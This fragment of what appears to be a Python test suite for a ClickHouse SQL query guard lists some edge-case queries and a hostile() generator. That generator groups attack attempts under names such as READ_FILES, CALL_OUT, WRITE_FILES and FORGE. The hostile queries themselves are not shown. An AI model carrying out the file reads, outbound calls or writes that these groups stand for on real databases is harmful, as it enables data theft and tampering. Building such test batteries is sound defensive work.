    "SELECT * FROM values(('default', 'ttl'), ('alias', 'file'))",
    "SELECT * FROM values('a Tuple(x String, y UInt8), b Enum(''x'' = 1)', (('b', 1), 'x'))",
    "SELECT finalizeAggregation(users) FROM events_by_quarter_hour",
    "SHOW TABLES LIKE '%file%'",
    "DESCRIBE TABLE events_raw",
    "SHOW CREATE TABLE events_raw",
    "SELECT name, comment FROM system.columns WHERE table = 'events_raw'",
)


def hostile() -> Iterator[Attempt]:
    """Every one of them."""
    yield from READ_FILES
    yield from CALL_OUT
    yield from WRITE_FILES
    yield from CHANGE
    yield from LOOK_ELSEWHERE
    yield from LOOK_ELSEWHERE_BESIDE
    yield from FORGE
    yield from SPELLED
    yield from PUT_IN
    yield from SETTINGS
    yield from OWN
